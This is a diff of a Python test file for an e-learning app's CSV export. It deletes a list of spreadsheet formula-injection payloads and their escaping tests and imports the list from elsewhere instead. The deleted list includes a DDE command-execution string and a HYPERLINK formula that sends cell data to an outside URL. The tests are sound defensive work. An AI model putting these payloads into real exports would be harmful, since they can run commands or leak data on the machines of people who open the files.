@@ -13,33 +13,11 @@ from sqlalchemy import func, select
 from elearn.extensions import db
 from elearn.manage import exports
 from elearn.manage.contacts import ContactInput, add_contact
-from elearn.manage.exports import safe_cell
 from elearn.manage.external import ExternalInput, record_external
 from elearn.manage.matrix import MatrixQuery, training_matrix
 from elearn.models import AuditEvent, Role, User
 from tests.manage.helpers import assign, certify, days
-
-HOSTILE = ["=1+1", "+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://x?"&A1,"c")', "=cmd|' /C calc'!A0",
-           "\tTAB", "\rCR", "\0NUL", "\n=1+1"]
-
-
-@pytest.mark.parametrize("value", [*HOSTILE, *(" " + v for v in HOSTILE), *("   " + v for v in HOSTILE)])
-def test_a_cell_that_a_spreadsheet_would_run_starts_with_an_apostrophe(value):
-    assert safe_cell(value) == "'" + value
-
-
-@pytest.mark.parametrize(("value", "expected"), [
-    ("Ann Learner", "Ann Learner"),
-    ("O'Neil, Siân", "O'Neil, Siân"),
-    ("1+1", "1+1"),
-    ("a=b", "a=b"),
-    ("", ""),
-    (None, ""),
-    (days(0), days(0).isoformat()),
-    (42, "42"),
-])
-def test_ordinary_cells_are_unchanged(value, expected):
-    assert safe_cell(value) == expected
+from tests.test_downloads import HOSTILE
 
 
 def _csv(response):  # type: ignore[no-untyped-def]
